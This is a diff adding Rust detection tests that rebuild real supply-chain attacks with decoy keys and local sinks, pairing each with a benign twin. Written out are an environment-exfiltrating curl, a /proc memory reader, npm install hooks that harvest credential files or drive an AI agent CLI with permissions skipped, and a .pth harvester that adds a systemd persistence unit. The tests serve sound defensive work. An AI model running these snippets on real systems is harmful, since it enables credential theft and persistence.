@@ -1,0 +1,367 @@
+//! Incidents of public write-ups, rebuilt with decoys, real interpreters and sinks on this machine: each gives the finding
+//! that names it, and its benign twin, the same programs at their legitimate work, gives none.
+
+use crate::{
+    agent::Agent,
+    command::{Act, act, sh},
+    events::{Ask as _, list, of_kind},
+    machine::{Scratch, patience, turn, wait_for},
+    plant,
+    server::Sink,
+};
+use std::{
+    fs,
+    os::unix::fs::PermissionsExt as _,
+    path::{Path, PathBuf},
+};
+
+/// Findings about a tree of processes that are worth waking somebody for.
+const ALARMS: [&str; 3] = ["medium", "high", "critical"];
+
+/// Waits for the finding.
+fn found(agent: &Agent, root: u32, rule: &str) {
+    agent.expect(rule, root, |e| {
+        e.in_tree(root) && e.finding.as_ref().is_some_and(|f| f.rule == rule)
+    });
+}
+
+/// Fails when anybody of this tree was accused.
+fn acquitted(agent: &Agent, root: u32) {
+    agent.settle();
+    let findings = of_kind(&agent.tree(root), "finding");
+    let said: Vec<String> = findings
+        .iter()
+        .filter_map(|e| e.finding.as_ref())
+        .filter(|f| ALARMS.contains(&f.severity.as_str()))
+        .map(|f| format!("{}: {}", f.rule, f.seen))
+        .collect();
+    assert!(said.is_empty(), "{said:?}\n{}", list(&agent.tree(root)));
+}
+
+/// Keys as they lie in a developer's home.
+struct Home {
+    dir: PathBuf,
+    github: plant::Planted,
+}
+
+impl Home {
+    fn new(dir: PathBuf) -> Self {
+        let github = plant::github();
+        fs::create_dir_all(&dir).unwrap();
+        plant::aws_credentials(&dir);
+        let write = |name: &str, text: String| {
+            let path = dir.join(name);
+            fs::write(&path, text).unwrap();
+            fs::set_permissions(&path, fs::Permissions::from_mode(0o600)).unwrap();
+        };
+        let npm = plant::npm();
+        write(
+            ".npmrc",
+            format!("//registry.npmjs.org/:_authToken={}\n", npm.value),
+        );
+        write(
+            ".netrc",
+            format!("machine github.com login ada password {}\n", github.value),
+        );
+        write(
+            ".slack",
+            format!("SLACK_BOT_TOKEN={}\n", plant::slack().value),
+        );
+        Self { dir, github }
+    }
+}
+
+fn script(path: &Path, text: &str) {
+    fs::create_dir_all(path.parent().unwrap()).unwrap();
+    fs::write(path, text).unwrap();
+    fs::set_permissions(path, fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// `npm install` in a project whose package has these scripts; nothing is fetched.
+fn npm_install(project: &Path, home: &Path, scripts: &str) -> Act {
+    fs::create_dir_all(project).unwrap();
+    fs::write(
+        project.join("package.json"),
+        format!("{{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{{{scripts}}}}}"),
+    )
+    .unwrap();
+    act("npm")
+        .args([
+            "install",
+            "--offline",
+            "--no-audit",
+            "--no-fund",
+            "--foreground-scripts",
+        ])
+        .current_dir(project)
+        .env("HOME", home)
+        .env("npm_config_update_notifier", "false")
+        .limit(60)
+}
+
+/// Codecov 2021: a CI script sends its whole environment.
+pub fn an_uploader_sends_the_environment() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let sink = Sink::http();
+    let agent = Agent::start(&scratch);
+    let url = format!("http://127.0.0.1:{}/upload/v2", sink.port);
+    let job = |script: &str| {
+        let github = plant::github();
+        let aws = plant::aws();
+        act("bash")
+            .args(["-c", script, "codecov", &url])
+            .env("GITHUB_TOKEN", &github.value)
+            .env("AWS_ACCESS_KEY_ID", aws.identifier.as_deref().unwrap())
+            .env("AWS_SECRET_ACCESS_KEY", &aws.value)
+            .env("NPM_TOKEN", plant::npm().value)
+            .run()
+            .ok()
+    };
+    let attack = job("curl -sm 5 -X POST -d \"$(git remote -v 2>/dev/null) $(env)\" \"$1\"; :");
+    found(&agent, attack.pid, "bulk-send");
+    // The real uploader sends the one token it was given.
+    let twin = job(
+        "printf 'header = \"Authorization: Bearer %s\"\\n' \"$GITHUB_TOKEN\" | curl -sm 5 -K - \"$1\"; :",
+    );
+    acquitted(&agent, twin.pid);
+}
+
+/// tj-actions 2025: the memory of the runner is read for its secrets.
+pub fn a_runner_is_read() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let runner = scratch.join("Runner.Worker");
+    fs::copy(crate::machine::find("bash").unwrap(), &runner).unwrap();
+    let holder = act(&runner)
+        .args(["-c", "while read line; do :; done"])
+        .env("GITHUB_TOKEN", plant::github().value)
+        .spawn_listening();
+    agent.expect("the runner's token", holder.pid(), |e| {
+        e.is("credential_exposed") && e.pid() == holder.pid()
+    });
+    let reader = "import re, sys
+pid = sys.argv[1]
+for line in open(f'/proc/{pid}/maps'):
+    m = re.match('([0-9a-f]+)-([0-9a-f]+) r', line)
+    if m and '[stack]' in line:
+        with open(f'/proc/{pid}/mem', 'rb', 0) as memory:
+            memory.seek(int(m[1], 16)); memory.read(int(m[2], 16) - int(m[1], 16))";
+    let python = |pid: &str| act("python3").args(["-c", reader, pid]).run().ok();
+    let attack = python(&holder.pid().to_string());
+    found(&agent, attack.pid, "taken-from-process");
+    // Somebody looks at a process of his own.
+    let twin = python("self");
+    acquitted(&agent, twin.pid);
+}
+
+/// s1ngularity 2025: a package's script has an AI agent look for keys.
+pub fn an_installation_drives_an_agent() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let home = Home::new(scratch.join("home"));
+    let tool = scratch.join("bin/claude");
+    script(&tool, "#!/bin/bash\ncat ~/.netrc >/dev/null\n:\n");
+    let attack = npm_install(
+        &scratch.join("attack"),
+        &home.dir,
+        &format!(
+            "\"postinstall\":\"{} --dangerously-skip-permissions -p search\"",
+            tool.display()
+        ),
+    )
+    .run()
+    .ok();
+    found(&agent, attack.pid, "agent-in-install");
+    // A package that builds itself; npm has its own token in its own file.
+    let twin = npm_install(
+        &scratch.join("twin"),
+        &home.dir,
+        "\"postinstall\":\"node -e process.exit\"",
+    )
+    .run()
+    .ok();
+    acquitted(&agent, twin.pid);
+}
+
+/// Shai-Hulud 2.0: a package's script gathers what lies in a home.
+pub fn an_installation_gathers_keys() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let home = Home::new(scratch.join("home"));
+    let gather = scratch.join("attack/setup.js");
+    script(
+        &gather,
+        "const fs = require('fs'), h = process.env.HOME;
+         for (const f of ['.aws/credentials', '.netrc', '.slack']) fs.readFileSync(`${h}/${f}`);",
+    );
+    let attack = npm_install(
+        &scratch.join("attack"),
+        &home.dir,
+        "\"preinstall\":\"node setup.js\"",
+    )
+    .run()
+    .ok();
+    found(&agent, attack.pid, "bulk-harvest");
+    found(&agent, attack.pid, "package-install");
+    // A deployment by npm that uses the one key it is there for.
+    let deploy = scratch.join("twin/deploy.js");
+    script(
+        &deploy,
+        "require('fs').readFileSync(process.env.HOME + '/.aws/credentials');",
+    );
+    fs::write(
+        scratch.join("twin/package.json"),
+        "{\"name\":\"p\",\"version\":\"1.0.0\",\"scripts\":{\"deploy\":\"node deploy.js\"}}",
+    )
+    .unwrap();
+    let twin = act("npm")
+        .args(["run", "deploy"])
+        .current_dir(scratch.join("twin"))
+        .env("HOME", &home.dir)
+        .limit(60)
+        .run()
+        .ok();
+    acquitted(&agent, twin.pid);
+}
+
+/// LiteLLM 2026: a path file runs at every start of Python, gathers keys, and stays by a unit of the user.
+pub fn a_path_file_stays() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    // A place that counts as a home; gone with the test.
+    let home = Home::new(PathBuf::from(format!("/home/kt{}", std::process::id())));
+    struct Remove<'a>(&'a Path);
+    impl Drop for Remove<'_> {
+        fn drop(&mut self) {
+            let _ = fs::remove_dir_all(self.0);
+        }
+    }
+    let _remove = Remove(&home.dir);
+    let site = scratch.join("lib/site-packages");
+    script(
+        &site.join("gather.py"),
+        "import os
+h = os.environ['HOME']
+for f in ('.aws/credentials', '.netrc', '.slack'):
+    open(f'{h}/{f}').read()
+os.makedirs(f'{h}/.config/systemd/user', exist_ok=True)
+open(f'{h}/.config/systemd/user/sysmon.service', 'w').write('[Service]\\nExecStart=/bin/true\\n')
+",
+    );
+    fs::write(site.join("gather.pth"), "import gather\n").unwrap();
+    let start = format!("import site; site.addsitedir({:?})", site.to_str().unwrap());
+    let attack = act("python3")
+        .args(["-c", &start])
+        .env("HOME", &home.dir)
+        .run()
+        .ok();
+    found(&agent, attack.pid, "bulk-harvest");
+    found(&agent, attack.pid, "persistence");
+    // A person's own unit and shell.
+    let twin = act("python3")
+        .args([
+            "-c",
+            "import os; h = os.environ['HOME']
+open(f'{h}/.config/systemd/user/mine.service', 'w').write('[Service]\\nExecStart=/bin/true\\n')
+open(f'{h}/.bashrc', 'a').write('alias ll=ls\\n')",
+        ])
+        .env("HOME", &home.dir)
+        .run()
+        .ok();
+    let written = agent.expect("the unit", twin.pid, |e| {
+        e.is("persistence_written") && e.in_tree(twin.pid) && e.path().ends_with("mine.service")
+    });
+    assert_eq!(written.attack, ["T1543.002"], "{}", written.brief());
+    acquitted(&agent, twin.pid);
+}
+
+/// CVE-2026-21852, injectivelabs 2026: the usual program sends the usual key, to another place.
+pub fn the_right_key_to_a_wrong_place() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let home = Home::new(scratch.join("home"));
+    let client = "import http.client, os, re, sys
+key = re.search('password (.*)', open(os.environ['HOME'] + '/.netrc').read())[1]
+for line in sys.stdin:
+    c = http.client.HTTPConnection(line.strip(), 8099, timeout=5)
+    c.request('POST', '/v1/messages', headers={'x-api-key': key})
+    c.getresponse().read()
+    print('sent', flush=True)";
+    // Addresses that are not loopback's, in a network of its own.
+    let mut network = act("unshare")
+        .args(["--net", "bash", "-c"])
+        .arg(
+            "ip link set lo up; ip addr add 203.0.113.7/32 dev lo; ip addr add 203.0.113.8/32 dev lo
+             python3 -m http.server --bind 0.0.0.0 8099 >/dev/null 2>&1 & server=$!
+             trap 'kill $server' EXIT
+             until (: </dev/tcp/203.0.113.7/8099) 2>/dev/null; do sleep 0.1; done
+             python3 -c \"$1\"",
+        )
+        .args(["bash", client])
+        .env("HOME", &home.dir)
+        .limit(120)
+        .spawn_listening();
+    let root = network.pid();
+    network.say("203.0.113.7");
+    let sent = agent.expect("the first send", root, |e| {
+        e.is("credential_sent")
+            && e.in_tree(root)
+            && e.grade() == "observed"
+            && e.peer().0 == "203.0.113.7"
+    });
+    agent
+        .client("baseline")
+        .args(["accept", sent.fingerprint()])
+        .run()
+        .ok();
+    let before = agent.sequence();
+    network.say("203.0.113.7");
+    wait_for("the second send", patience(10), || {
+        String::from_utf8_lossy(&network.written())
+            .matches("sent")
+            .nth(1)
+            .map(drop)
+    });
+    agent.settle();
+    let accused = of_kind(&agent.tree(root), "finding")
+        .iter()
+        .filter(|e| e.sequence() > before)
+        .filter_map(|e| e.finding.clone())
+        .filter(|f| f.rule == "wrong-place")
+        .count();
+    assert_eq!(accused, 0, "the usual place");
+    network.say("203.0.113.8");
+    found(&agent, root, "wrong-place");
+    assert!(!home.github.value.is_empty());
+    network.end();
+}
+
+/// supplyhub 2026: a package's script reads its own environment by /proc.
+pub fn an_installation_reads_its_environment() {
+    let _turn = turn();
+    let scratch = Scratch::new();
+    let agent = Agent::start(&scratch);
+    let home = Home::new(scratch.join("home"));
+    let project = |name: &str, script: &str| {
+        npm_install(&scratch.join(name), &home.dir, script)
+            .env("STRIPE_SECRET_KEY", plant::stripe().value)
+            .run()
+            .ok()
+    };
+    let attack = project(
+        "attack",
+        "\"postinstall\":\"node -e \\\"require('fs').readFileSync('/proc/self/environ')\\\"\"",
+    );
+    found(&agent, attack.pid, "own-environment");
+    let twin = project(
+        "twin",
+        "\"postinstall\":\"node -e \\\"console.log(process.env.HOME, process.version)\\\"\"",
+    );
+    acquitted(&agent, twin.pid);
+}
